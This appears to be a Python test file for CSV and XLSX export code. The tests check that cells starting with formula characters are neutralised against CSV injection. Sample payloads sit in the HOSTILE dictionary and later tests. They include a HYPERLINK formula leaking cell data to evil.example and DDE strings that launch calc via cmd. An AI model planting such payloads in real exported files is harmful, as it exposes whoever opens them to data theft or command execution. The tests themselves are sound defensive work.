"""CSV exports a spreadsheet opens safely: cells starting with = + - @ TAB CR are neutralised
(OWASP, CSV injection) in grid and check CSVs, numbers stay numbers, and the headings are the
XLSX's labels."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import openpyxl
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import MetaData, create_engine, select, update

from bpo2_bridge.demo.content import DEMO_ADMIN_LOGIN
from bpo2_bridge.source.mapping import physical_table
from bpo2_bridge.sync.refresh import refresh_customer
from bpo2_bridge.values import FORMULA_START, csv_lines

from .helpers import page_token, sign_in

HOSTILE = {
    "equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+27 11 555 0000",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


def _parse(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_grid_csv_neutralises_formulas_and_uses_the_xlsx_labels(make_app, copied_demo) -> None:
    bridge = copied_demo()
    table = physical_table(bridge.mapping["customer"], MetaData())
    writer = create_engine(f"sqlite:///{bridge.settings.demo_source_path}")  # BPO2 users type these
    with writer.begin() as conn:
        accounts = (
            conn.execute(select(table.c.account_no).order_by(table.c.customer_id).limit(len(HOSTILE)))
            .scalars()
            .all()
        )
        for account_no, name in zip(accounts, HOSTILE.values(), strict=True):
            conn.execute(
                update(table)
                .where(table.c.account_no == account_no)
                .values(customer_name=name, tel=name, modified_date=dt.datetime.now())
            )
    writer.dispose()
    for account_no in accounts:
        refresh_customer(bridge, account_no)
    client = make_app(bridge).test_client()
    assert sign_in(client, DEMO_ADMIN_LOGIN).status_code == 302

    response = client.get("/customers?format=csv&page_size=200")
    assert response.status_code == 200
    table_rows = _parse(response.data)
    book = openpyxl.load_workbook(io.BytesIO(client.get("/customers?format=xlsx&page_size=200").data))
    sheet = book.worksheets[0]
    xlsx_rows = list(sheet.iter_rows(values_only=True))
    assert table_rows[0] == list(xlsx_rows[0])  # the same headings
    header = table_rows[0]
    name_at, tel_at = header.index("Customer Name"), header.index("Tel")
    cells = {row[name_at] for row in table_rows[1:]} | {row[tel_at] for row in table_rows[1:]}
    for what, value in HOSTILE.items():
        assert "'" + value in cells, what
        assert value not in cells, what
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    # numbers stay numbers: the counts are plain digits
    active_at = header.index("Active contracts")
    assert all(re.fullmatch(r"\d+", row[active_at]) for row in table_rows[1:])
    # XLSX keeps the text as typed, as a string cell, never a formula
    xlsx_cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for what, value in HOSTILE.items():
        if value.startswith(("=", "@", "+", "-")):
            assert xlsx_cells.get(value) == "s", what


def test_xlsx_about_sheet_keeps_a_formula_like_search_as_text(demo_bridge, app) -> None:
    client = app.test_client()
    assert sign_in(client, DEMO_ADMIN_LOGIN).status_code == 302
    search = '=HYPERLINK("http://evil.example","x")'
    response = client.get("/customers", query_string={"format": "xlsx", "q": search})
    about = openpyxl.load_workbook(io.BytesIO(response.data))["About"]
    cells = {row[0].value: row[1] for row in about.iter_rows()}
    assert cells["Search"].value == search and cells["Search"].data_type == "s"


def test_check_csvs_neutralise_formulas(make_app, copied_demo, write_source_rows) -> None:
    bridge = copied_demo()
    hostile_no = "=cmd|' /C calc'!A0"
    write_source_rows(
        bridge,
        "contract",
        dict(
            contract_id=900002,
            contract_no=hostile_no,
            customer_id=1,
            contract_type_id=1,
            status="Active",
            start_date=dt.date(2026, 5, 1),
            expiry_date=dt.date(2026, 4, 30),
        ),
    )
    client = make_app(bridge).test_client()
    assert sign_in(client, "ops").status_code == 302
    token = page_token(client, "/checks")
    assert (
        client.post("/checks/contract_expiry_before_start/run", data={"csrf_token": token}).status_code == 303
    )
    response = client.get("/checks/contract_expiry_before_start?format=csv")
    rows = _parse(response.data)
    book = openpyxl.load_workbook(
        io.BytesIO(client.get("/checks/contract_expiry_before_start?format=xlsx").data)
    )
    assert rows[0] == list(next(book.worksheets[0].iter_rows(values_only=True)))
    contract_at = rows[0].index("Contract no")
    assert ["'" + hostile_no] == [r[contract_at] for r in rows[1:]]

    sql = (
        "SELECT '=1+2' AS \"=x\", -5 AS n, '-5' AS t, '@SUM(A1)' AS a, "
        "char(9) || 'x' AS tab, char(13) || '=1' AS cr, 'plain' AS p, 2.5 AS f"
    )
    adhoc = client.post("/checks/query", data={"csrf_token": token, "sql": sql, "format": "csv"})
    assert adhoc.status_code == 200 and adhoc.mimetype == "text/csv"
    header, row = _parse(adhoc.data)
    assert header == ["'=x", "n", "t", "a", "tab", "cr", "p", "f"]
    assert row == ["'=1+2", "-5", "'-5", "'@SUM(A1)", "'\tx", "'\r=1", "plain", "2.5"]


@given(
    st.lists(
        st.lists(
            st.one_of(st.text(st.characters(exclude_categories=("Cs",))), st.integers(), st.none()),
            min_size=1,
            max_size=4,
        ),
        max_size=5,
    )
)
def test_no_csv_cell_starts_a_formula_and_text_survives(rows) -> None:
    width = max(len(r) for r in rows) if rows else 1
    rows = [r + [None] * (width - len(r)) for r in rows]
    header = [f"c{i}" for i in range(width)]
    parsed = _parse("".join(csv_lines(header, rows)).encode("utf-8"))
    assert parsed[0] == header
    assert len(parsed) == len(rows) + 1
    for got_row, sent_row in zip(parsed[1:], rows, strict=True):
        for got, sent in zip(got_row, sent_row, strict=True):
            if sent is None:
                assert got == ""
            elif isinstance(sent, int):
                assert got == str(sent)  # numbers, negative ones too, stay numbers
            elif sent.startswith(FORMULA_START):
                assert got == "'" + sent
            else:
                assert got == sent
            if isinstance(sent, str):
                assert not got.startswith(FORMULA_START)
